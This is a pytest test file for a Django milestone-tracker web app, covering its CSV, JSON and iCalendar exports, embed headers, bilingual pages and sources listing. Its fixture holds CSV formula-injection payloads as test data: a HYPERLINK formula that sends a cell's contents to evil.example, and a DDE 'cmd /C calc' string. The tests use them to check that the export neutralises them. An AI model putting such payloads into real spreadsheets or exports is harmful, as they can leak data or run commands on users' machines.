"""Sharing a timeline: CSV, JSON and iCalendar exports, the embeddable chart, both languages, the sources page."""

import csv
import datetime as dt
import io
import json
import re

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone
from icalendar import Calendar
from pytest_django.asserts import assertContains, assertNotContains, assertRedirects

from tests.factories import ClaimFactory, MilestoneFactory, ProgramFactory, SourceFactory, make_program
from tests.pages import figure_keys
from timeline.models import Claim, Milestone, Source

pytestmark = pytest.mark.django_db
D = dt.date
EVIL_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"클릭")'


@pytest.fixture
def program():
    """A small program that covers every shape an export has to write.

    - dc-build: planned end said to be Dec 2022 (stated 2021-01-03), later H1 2023 (stated 2022-06-01): a month
      late against the first plan (31 days, first day to first day).
    - pilot: an event that happened "in August or September 2021" (a range), no English title.
    - evil: a title that is a spreadsheet formula; its plan moved a year earlier (delay -365).
    - old-plan: planned, its only source from 2020: stale. opened (done) and dropped (cancelled) are as old, not stale.
    - undated: no claim at all.
    """
    program = ProgramFactory(slug="share", name_ko="공유 사업", name_en="Sharing program")
    phase = MilestoneFactory(program=program, key="phase-a", kind="phase", title_ko="1단계", title_en="Phase 1")
    dc = MilestoneFactory(
        program=program,
        key="dc-build",
        parent=phase,
        title_ko="데이터센터 건물 완공",
        title_en="Data center building completion",
    )
    early = SourceFactory(publisher="전자신문", published_on=D(2021, 1, 3))
    later = SourceFactory(publisher="연합뉴스", published_on=D(2022, 6, 1), published_approx=True)
    ClaimFactory(milestone=dc, source=early, expression="내년 말", stated_on=D(2021, 1, 3))
    ClaimFactory(
        milestone=dc,
        source=later,
        lo=D(2023, 1, 1),
        hi=D(2023, 6, 30),
        precision="half",
        expression="내년 상반기",
        stated_on=D(2022, 6, 1),
    )
    pilot = MilestoneFactory(
        program=program, key="pilot", parent=phase, kind="event", title_ko="시범 운영", title_en=""
    )
    ClaimFactory(
        milestone=pilot,
        source=later,
        field="event",
        status="actual",
        lo=D(2021, 8, 1),
        hi=D(2021, 9, 30),
        precision="range",
        expression="지난해 8~9월",
        stated_on=D(2022, 6, 1),
    )
    evil = MilestoneFactory(program=program, key="evil", title_ko=EVIL_TITLE, title_en="+cmd|' /C calc'!A0")
    evil_source = SourceFactory(publisher="@publisher", published_on=D(2024, 1, 1))
    ClaimFactory(milestone=evil, lo=D(2026, 1, 1), hi=D(2026, 12, 31), precision="year", stated_on=D(2023, 1, 1))
    ClaimFactory(
        milestone=evil,
        source=evil_source,
        lo=D(2025, 1, 1),
        hi=D(2025, 12, 31),
        precision="year",
        stated_on=D(2024, 1, 1),
    )
    old = MilestoneFactory(program=program, key="old-plan", title_ko="먼 계획", title_en="Distant plan")
    ancient = SourceFactory(published_on=D(2020, 1, 1))
    ClaimFactory(milestone=old, source=ancient, lo=D(2030, 1, 1), hi=D(2030, 12, 31), precision="year")
    opened = MilestoneFactory(program=program, key="opened", kind="event", title_ko="개소", title_en="Opening")
    ClaimFactory(
        milestone=opened,
        source=ancient,
        field="event",
        status="actual",
        lo=D(2019, 5, 5),
        hi=D(2019, 5, 5),
        precision="day",
    )
    dropped = MilestoneFactory(program=program, key="dropped", cancelled=True, title_ko="취소된 일", title_en="Dropped")
    ClaimFactory(milestone=dropped, source=ancient, lo=D(2031, 1, 1), hi=D(2031, 12, 31), precision="year")
    MilestoneFactory(program=program, key="undated", title_ko="날짜 없음", title_en="No date yet")
    # Another program's data never leaks into this one's exports.
    ClaimFactory(milestone=MilestoneFactory(key="elsewhere"), source=SourceFactory(publisher="다른 사업 신문"))
    return program


def url(name: str, slug: str = "share") -> str:
    return reverse(f"timeline:{name}", args=[slug])


def read_csv(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def by_key(rows, key: str = "key") -> dict:
    return {row[key]: row for row in rows}


def events(response) -> dict:
    calendar = Calendar.from_ical(response.content)
    return {str(e["UID"]): e for e in calendar.walk("VEVENT")}


def table_row(response, key: str) -> str:
    match = re.search(rf'<tr [^>]*data-key="{re.escape(key)}">(.*?)</tr>', response.content.decode(), re.S)
    assert match, f"no table row for {key}"
    return match.group(1)


# --- CSV --------------------------------------------------------------------------


class TestCsvExport:
    def test_utf8_with_bom_one_row_per_milestone(self, client, program):
        response = client.get(url("export_csv"))
        assert response.status_code == 200
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"].startswith('attachment; filename="share-milestones-')
        assert response.content.startswith(b"\xef\xbb\xbf")
        rows = read_csv(response)
        assert [r["key"] for r in rows] == figure_keys(client.get(url("program")))
        assert set(by_key(rows)) == set(Milestone.objects.filter(program=program).values_list("key", flat=True))
        assert "공유 사업" not in response.content.decode("utf-8-sig")  # titles, not the program name, per row
        assert by_key(rows)["dc-build"]["title_ko"] == "데이터센터 건물 완공"

    def test_dates_as_edtf_and_bounds(self, client, program):
        rows = by_key(read_csv(client.get(url("export_csv"))))
        dc = rows["dc-build"]
        assert (dc["planned_end"], dc["planned_end_lo"], dc["planned_end_hi"]) == (
            "2023-40",
            "2023-01-01",
            "2023-06-30",
        )
        assert (dc["actual_end"], dc["actual_end_lo"]) == ("", "")
        assert dc["phase"] == "phase-a"
        assert dc["kind"] == "span"
        assert dc["status"] == "overdue"
        assert (dc["baseline_end"], dc["baseline_end_lo"]) == ("2022-12", "2022-12-01")
        assert (dc["delay_days"], dc["delay"], dc["delay_unit"], dc["delay_basis"]) == ("31", "1", "month", "forecast")
        assert dc["forecast_drift_days"] == "31"
        assert dc["source_count"] == "2"
        assert dc["latest_source"] == "연합뉴스 ~2022-06-01"
        assert dc["latest_source_on"] == "2022-06-01"
        assert dc["url"] == "http://testserver/programs/share/milestones/dc-build/"
        pilot = rows["pilot"]
        assert (pilot["actual_end"], pilot["actual_end_lo"], pilot["actual_end_hi"]) == (
            "2021-08/2021-09",
            "2021-08-01",
            "2021-09-30",
        )
        assert pilot["title_en"] == ""
        assert pilot["status"] == "done"
        assert rows["undated"]["planned_end"] == rows["undated"]["delay_days"] == rows["undated"]["baseline_end"] == ""

    def test_formula_injection_is_neutralised_but_numbers_stay_numbers(self, client, program):
        rows = by_key(read_csv(client.get(url("export_csv"))))
        evil = rows["evil"]
        assert evil["title_ko"] == "'" + EVIL_TITLE
        assert evil["title_en"] == "'+cmd|' /C calc'!A0"
        assert evil["latest_source"] == "'@publisher 2024-01-01"
        assert (evil["delay_days"], evil["delay"]) == ("-365", "-1")
        for row in rows.values():
            for value in row.values():
                assert not value.startswith(("=", "+", "@", "\t", "\r")), value
                assert not value.startswith("-") or re.fullmatch(r"-\d+", value), value

    def test_filters_are_honoured(self, client, program):
        rows = read_csv(client.get(url("export_csv"), {"kind": "event"}))
        assert {r["key"] for r in rows} == {"pilot", "opened"}
        rows = read_csv(client.get(url("export_csv"), {"phase": "phase-a"}))
        assert {r["key"] for r in rows} == {"phase-a", "dc-build", "pilot"}
        rows = read_csv(client.get(url("export_csv"), {"q": "데이터"}))
        assert [r["key"] for r in rows] == ["dc-build"]

    def test_as_of_is_honoured(self, client, program):
        response = client.get(url("export_csv"), {"as_of": "2021-06-01"})
        assert re.search(r'filename="share-milestones-2021-06-01\.csv"', response["Content-Disposition"])
        rows = by_key(read_csv(response))
        dc = rows["dc-build"]
        assert (dc["planned_end"], dc["delay_days"], dc["source_count"]) == ("2022-12", "0", "1")
        assert "pilot" not in rows, "reported only in 2022: unknown on the as-of day"

    def test_bad_filters_are_dropped_not_a_500(self, client, program):
        response = client.get(url("export_csv"), {"as_of": "garbage", "kind": "<x>"})
        assert response.status_code == 200
        assert len(read_csv(response)) == 8

    def test_unknown_program_is_404(self, client):
        assert client.get(url("export_csv", "nope")).status_code == 404

    @pytest.mark.parametrize("size", [10, pytest.param(200, marks=pytest.mark.slow)])
    def test_fixed_number_of_queries(self, client, django_assert_max_num_queries, size):
        make_program(size)
        with django_assert_max_num_queries(5):
            response = client.get(url("export_csv", "big"))
        assert len(read_csv(response)) == size
        with django_assert_max_num_queries(5):
            client.get(url("export_csv", "big"), {"as_of": "2021-06-01", "kind": "event"})


# --- JSON -------------------------------------------------------------------------


class TestJsonExport:
    def test_milestones_claims_and_sources(self, client, program):
        response = client.get(url("export_json"))
        assert response["Content-Type"] == "application/json"
        assert "데이터센터".encode() in response.content  # readable UTF-8, not \\u escapes
        data = json.loads(response.content)
        assert data["program"] == {
            "slug": "share",
            "name_ko": "공유 사업",
            "name_en": "Sharing program",
            "agency": program.agency,
            "url": "http://testserver/programs/share/",
        }
        assert data["as_of"] is None
        assert data["milestone_count"] == len(data["milestones"]) == 8
        milestones = by_key(data["milestones"])
        dc = milestones["dc-build"]
        assert dc["planned_end"] == {"edtf": "2023-40", "lo": "2023-01-01", "hi": "2023-06-30", "precision": "half"}
        assert dc["actual_end"] is None
        assert [c["date"]["edtf"] for c in dc["claims"]] == ["2022-12", "2023-40"]
        assert [c["expression"] for c in dc["claims"]] == ["내년 말", "내년 상반기"]
        assert milestones["pilot"]["actual_end"]["edtf"] == "2021-08/2021-09"
        assert milestones["pilot"]["claims"][0]["date"] == {
            "edtf": "2021-08/2021-09",
            "lo": "2021-08-01",
            "hi": "2021-09-30",
            "precision": "range",
        }
        assert milestones["undated"]["claims"] == []
        assert milestones["old-plan"]["stale"] is True
        assert milestones["opened"]["stale"] is False

    def test_every_claim_and_each_source_once(self, client, program):
        data = client.get(url("export_json")).json()
        claims = [c for m in data["milestones"] for c in m["claims"]]
        assert len(claims) == Claim.objects.filter(milestone__program=program).count()
        assert {c["id"] for c in claims} == set(
            Claim.objects.filter(milestone__program=program).values_list("uid", flat=True)
        )
        source_ids = [s["id"] for s in data["sources"]]
        assert len(source_ids) == len(set(source_ids))
        assert set(source_ids) == {c["source"] for c in claims}
        expected = Source.objects.filter(claims__milestone__program=program).distinct()
        assert set(source_ids) == {s.content_hash for s in expected}
        approx = next(s for s in data["sources"] if s["publisher"] == "연합뉴스")
        assert approx["published_on"] == "2022-06-01"
        assert approx["published_approx"] is True

    def test_as_of_and_filters_are_honoured(self, client, program):
        data = client.get(url("export_json"), {"as_of": "2021-06-01", "phase": "phase-a"}).json()
        assert data["as_of"] == "2021-06-01"
        assert data["filters"] == {"phase": "phase-a", "as_of": "2021-06-01"}
        milestones = by_key(data["milestones"])
        assert set(milestones) == {"dc-build"}, "the phase and the pilot had no claim stated by then"
        assert milestones["dc-build"]["planned_end"]["edtf"] == "2022-12"
        assert [c["stated_on"] for c in milestones["dc-build"]["claims"]] == ["2021-01-03"]
        assert len(data["sources"]) == 1

    @pytest.mark.parametrize("size", [10, pytest.param(200, marks=pytest.mark.slow)])
    def test_fixed_number_of_queries(self, client, django_assert_max_num_queries, size):
        make_program(size)
        with django_assert_max_num_queries(6):
            data = client.get(url("export_json", "big")).json()
        assert len(data["milestones"]) == size
        assert sum(len(m["claims"]) for m in data["milestones"]) == 2 * (size - 1)
        with django_assert_max_num_queries(6):
            client.get(url("export_json", "big"), {"as_of": "2021-06-01"})


# --- iCalendar --------------------------------------------------------------------


class TestIcsExport:
    def test_one_all_day_event_per_dated_end_or_event(self, client, program):
        response = client.get(url("export_ics"))
        assert response["Content-Type"] == "text/calendar; charset=utf-8"
        found = events(response)
        assert set(found) == {
            "dc-build.end@share.milestone-tracker",
            "pilot.event@share.milestone-tracker",
            "evil.end@share.milestone-tracker",
            "old-plan.end@share.milestone-tracker",
            "opened.event@share.milestone-tracker",
            "dropped.end@share.milestone-tracker",
        }
        dc = found["dc-build.end@share.milestone-tracker"]
        # A half-year is an all-day event over the whole half (DTEND is exclusive).
        assert dc.decoded("DTSTART") == D(2023, 1, 1)
        assert dc.decoded("DTEND") == D(2023, 7, 1)
        assert not isinstance(dc.decoded("DTSTART"), dt.datetime)
        assert str(dc["SUMMARY"]) == "데이터센터 건물 완공: 완료 예정"
        assert "EDTF 2023-40" in str(dc["DESCRIPTION"])
        assert str(dc["URL"]) == "http://testserver/programs/share/milestones/dc-build/"
        pilot = found["pilot.event@share.milestone-tracker"]
        assert (pilot.decoded("DTSTART"), pilot.decoded("DTEND")) == (D(2021, 8, 1), D(2021, 10, 1))
        opened = found["opened.event@share.milestone-tracker"]
        assert (opened.decoded("DTSTART"), opened.decoded("DTEND")) == (D(2019, 5, 5), D(2019, 5, 6))

    def test_uids_are_stable_across_requests(self, client, program):
        first = events(client.get(url("export_ics")))
        second = events(client.get(url("export_ics")))
        assert set(first) == set(second)
        calendars = [Calendar.from_ical(client.get(url("export_ics")).content) for _ in range(2)]
        assert calendars[0]["UID"] == calendars[1]["UID"] == "share@milestone-tracker"

    def test_filters_show_and_as_of_are_honoured(self, client, program):
        assert set(events(client.get(url("export_ics"), {"kind": "event"}))) == {
            "pilot.event@share.milestone-tracker",
            "opened.event@share.milestone-tracker",
        }
        planned = events(client.get(url("export_ics"), {"show": "planned"}))
        assert "pilot.event@share.milestone-tracker" not in planned  # only an actual date is known
        assert "dc-build.end@share.milestone-tracker" in planned
        then = events(client.get(url("export_ics"), {"as_of": "2021-06-01"}))
        dc = then["dc-build.end@share.milestone-tracker"]
        assert (dc.decoded("DTSTART"), dc.decoded("DTEND")) == (D(2022, 12, 1), D(2023, 1, 1))
        assert "pilot.event@share.milestone-tracker" not in then

    def test_english_summaries(self, client, program):
        found = events(client.get(url("export_ics"), headers={"Accept-Language": "en"}))
        assert str(found["dc-build.end@share.milestone-tracker"]["SUMMARY"]) == (
            "Data center building completion: planned completion"
        )
        assert str(found["pilot.event@share.milestone-tracker"]["SUMMARY"]) == "시범 운영"  # no English title
        assert "H1 2023" in str(found["dc-build.end@share.milestone-tracker"]["DESCRIPTION"])

    @pytest.mark.parametrize("size", [10, pytest.param(200, marks=pytest.mark.slow)])
    def test_fixed_number_of_queries(self, client, django_assert_max_num_queries, size):
        make_program(size)
        with django_assert_max_num_queries(5):
            found = events(client.get(url("export_ics", "big")))
        assert len(found) == size - 1  # the phase has no claim of its own


# --- the timeline page links to them -----------------------------------------------


class TestExportLinks:
    def test_links_carry_the_current_filters(self, client, program):
        response = client.get(url("program"), {"kind": "event", "as_of": "2022-07-01", "status": ""})
        for name in ("export_csv", "export_json", "export_ics"):
            assertContains(response, f'href="{url(name)}?kind=event&amp;as_of=2022-07-01"')
        assertContains(response, f'href="{url("sources")}"')

    def test_links_follow_an_htmx_filter_change(self, client, program):
        response = client.get(url("program"), {"phase": "phase-a", "show": "planned"}, headers={"HX-Request": "true"})
        assert response.content.decode().lstrip().startswith('<section id="timeline"')
        assertContains(response, f'href="{url("export_csv")}?phase=phase-a&amp;show=planned"')
        assertContains(response, "?embed=1&amp;amp;phase=phase-a&amp;amp;show=planned")

    def test_unfiltered_links_have_no_query(self, client, program):
        assertContains(client.get(url("program")), f'href="{url("export_ics")}"')

    def test_png_is_named_after_the_program_and_day(self, client, program):
        today = timezone.localdate().isoformat()
        assertContains(client.get(url("program")), f'data-filename="share-{today}"')
        assertContains(client.get(url("program"), {"as_of": "2022-01-05"}), 'data-filename="share-2022-01-05"')


# --- embed ------------------------------------------------------------------------


def csp(response) -> dict[str, str]:
    policy = response["Content-Security-Policy"]
    return {part.split()[0]: part for part in (p.strip() for p in policy.split(";")) if part}


class TestEmbed:
    def test_normal_page_may_not_be_framed(self, client, program):
        response = client.get(url("program"))
        assert response["X-Frame-Options"] == "DENY"
        assert csp(response)["frame-ancestors"] == "frame-ancestors 'none'"

    def test_embed_may_be_framed_by_any_site_and_keeps_the_rest_of_the_policy(self, client, program):
        response = client.get(url("program"), {"embed": "1"})
        assert response.status_code == 200
        assert "X-Frame-Options" not in response
        policy = csp(response)
        assert policy["frame-ancestors"] == "frame-ancestors *"
        assert policy["script-src"].startswith("script-src 'self'")
        assert "'unsafe-inline'" not in policy["script-src"]
        assert policy["object-src"] == "object-src 'none'"
        assert policy["default-src"] == "default-src 'self'"

    def test_embed_shows_the_chart_legend_and_a_link_back_only(self, client, program):
        response = client.get(url("program"), {"embed": "1", "kind": "event"})
        assert set(figure_keys(response)) == {"opened", "pilot"}
        assertContains(response, 'class="legend-note')
        assertContains(response, 'href="http://testserver/programs/share/?kind=event"')
        assertNotContains(response, 'id="filters"')
        assertNotContains(response, "<table")
        assertNotContains(response, 'class="site-header"')
        assertNotContains(response, "htmx")

    def test_embed_code_on_the_page(self, client, program):
        response = client.get(url("program"), {"status": "done"})
        match = re.search(r'<textarea id="embed-code"[^>]*readonly[^>]*>(.*?)</textarea>', response.content.decode())
        assert match
        code = match.group(1).replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&amp;", "&")
        assert code.startswith('<iframe src="http://testserver/programs/share/?embed=1&amp;status=done"')
        assert 'title="공유 사업"' in code

    def test_other_pages_stay_unframeable(self, client, program):
        for path in (url("sources"), url("export_csv"), "/"):
            assert client.get(path)["X-Frame-Options"] == "DENY"


# --- Korean and English -------------------------------------------------------------


class TestLanguages:
    def test_korean_by_default(self, client, program):
        response = client.get(url("program"))
        assertContains(response, '<html lang="ko">')
        for text in (
            "마일스톤 트래커",
            '<th scope="col">계획</th>',
            '<th scope="col">실제</th>',
            "상태",
            "출처",
            "첫 계획 대비",
        ):
            assertContains(response, text)
        assertContains(response, "데이터센터 건물 완공")
        assertContains(response, "2023년 상반기")
        assertNotContains(response, "Milestone tracker")
        assertNotContains(response, "H1 2023")

    @pytest.mark.parametrize(
        "how",
        [
            pytest.param({"headers": {"Accept-Language": "en-US,en;q=0.9"}}, id="accept-language"),
            pytest.param({"cookie": "en"}, id="cookie"),
        ],
    )
    def test_english_on_request(self, client, program, how):
        if "cookie" in how:
            client.cookies[settings.LANGUAGE_COOKIE_NAME] = how["cookie"]
        response = client.get(url("program"), headers=how.get("headers", {}))
        assertContains(response, '<html lang="en">')
        for text in (
            "Milestone tracker",
            '<th scope="col">Planned</th>',
            "Sources",
            "Against the first plan",
            "Export this view:",
        ):
            assertContains(response, text)
        assertContains(response, "Data center building completion")
        assertContains(response, "H1 2023")
        assertContains(response, "시범 운영")  # no English title: the Korean one is shown
        assertNotContains(response, "2023년 상반기")
        assertNotContains(response, "마일스톤 트래커")

    def test_the_switch_keeps_the_filters(self, client, program):
        page = client.get(url("program"), {"kind": "event", "as_of": "2022-07-01"})
        assertContains(page, 'name="next" value="/programs/share/?kind=event&amp;as_of=2022-07-01"')
        target = "/programs/share/?kind=event&as_of=2022-07-01"
        response = client.post(reverse("set_language"), {"language": "en", "next": target})
        assertRedirects(response, target, fetch_redirect_response=False)
        english = client.get(target)
        assertContains(english, "Opening")
        assertContains(english, '<html lang="en">')
        assert set(figure_keys(english)) == {"opened", "pilot"}

    def test_the_switch_offers_each_language_in_its_own_name(self, client, program):
        response = client.get(url("program"))
        assertContains(response, 'value="ko" lang="ko" aria-current="true">한국어</button>')
        assertContains(response, 'value="en" lang="en">English</button>')

    def test_urls_are_the_same_in_both_languages(self, client, program):
        client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
        assert client.get("/programs/share/").status_code == 200
        assert client.get("/en/programs/share/").status_code == 404

    def test_panel_and_sources_in_english(self, client, program):
        client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
        panel = client.get(reverse("timeline:milestone", args=["share", "dc-build"]))
        assertContains(panel, "Claims, oldest first")
        assertContains(panel, "H1 2023")
        assertContains(client.get(url("sources")), "newest first")


# --- sources page -----------------------------------------------------------------


class TestSourcesPage:
    def test_every_source_with_the_claims_it_backs(self, client, program):
        response = client.get(url("sources"))
        content = response.content.decode()
        expected = Source.objects.filter(claims__milestone__program=program).distinct()
        assert content.count('<li class="source"') == expected.count() == 5
        assertNotContains(response, "다른 사업 신문")
        assertContains(response, "≈</span>2022-06-01")
        block = content[content.index("연합뉴스") :]
        block = block[: block.index("</li>")]
        assert "데이터센터 건물 완공" in block and "시범 운영" in block
        assert "내년 상반기" in block and "2023년 상반기" in block and "2021년 8월 ~ 2021년 9월" in block
        assert 'href="/programs/share/milestones/dc-build/"' in block

    def test_newest_first(self, client, program):
        content = client.get(url("sources")).content.decode()
        dates = re.findall(r'<time datetime="(\d{4}-\d\d-\d\d)"', content)
        assert dates == sorted(dates, reverse=True)

    def test_linked_from_the_timeline(self, client, program):
        assertContains(client.get(url("program")), f'href="{url("sources")}"')

    def test_unknown_program_is_404(self, client):
        assert client.get(url("sources", "nope")).status_code == 404

    @pytest.mark.parametrize("size", [10, pytest.param(200, marks=pytest.mark.slow)])
    def test_fixed_number_of_queries(self, client, django_assert_max_num_queries, size):
        make_program(size)
        with django_assert_max_num_queries(4):
            response = client.get(url("sources", "big"))
        assert response.content.decode().count('<li class="source"') == 10

    def test_many_sources_are_paged_and_every_one_is_listed_once(self, client, program, monkeypatch):
        monkeypatch.setattr("timeline.views.SOURCES_PER_PAGE", 2)
        seen = []
        for number in (1, 2, 3):
            content = client.get(url("sources"), {"page": number}).content.decode()
            seen += re.findall(r'<li class="source" id="source-(\d+)"', content)
            assert (
                f"page {number} of 3"
                in client.get(url("sources"), {"page": number}, headers={"Accept-Language": "en"}).content.decode()
            )
        assert sorted(map(int, seen)) == sorted(
            Source.objects.filter(claims__milestone__program=program).distinct().values_list("pk", flat=True)
        )
        assert 'rel="next"' in client.get(url("sources")).content.decode()
        assert client.get(url("sources"), {"page": "999"}).status_code == 200  # the last page


# --- stale sources ----------------------------------------------------------------


class TestStaleSources:
    def test_badge_on_unfinished_milestones_with_old_sources(self, client, program):
        response = client.get(url("program"))
        assert 'class="stale"' in table_row(response, "old-plan")
        for key in ("opened", "dropped", "undated"):  # done, cancelled, nothing to be stale
            assert 'class="stale"' not in table_row(response, key)

    def test_recent_sources_are_not_stale(self, client, program):
        recent = SourceFactory(published_on=timezone.localdate() - dt.timedelta(days=10))
        ClaimFactory(milestone=Milestone.objects.get(key="old-plan"), source=recent, stated_on=recent.published_on)
        assert 'class="stale"' not in table_row(client.get(url("program")), "old-plan")

    def test_age_is_a_setting(self, client, program, settings):
        settings.TRACKER_STALE_SOURCE_DAYS = 365 * 100
        assertNotContains(client.get(url("program")), 'class="stale"')

    def test_as_of_measures_age_from_that_day(self, client, program):
        assert 'class="stale"' not in table_row(client.get(url("program"), {"as_of": "2020-06-01"}), "old-plan")
        assert 'class="stale"' in table_row(client.get(url("program"), {"as_of": "2021-06-01"}), "old-plan")

    def test_warning_in_the_panel(self, client, program):
        panel = client.get(reverse("timeline:milestone", args=["share", "old-plan"]), headers={"HX-Request": "true"})
        assertContains(panel, 'class="stale-note"')
        assertContains(panel, "2020-01-01")
        done = client.get(reverse("timeline:milestone", args=["share", "opened"]), headers={"HX-Request": "true"})
        assertNotContains(done, 'class="stale-note"')
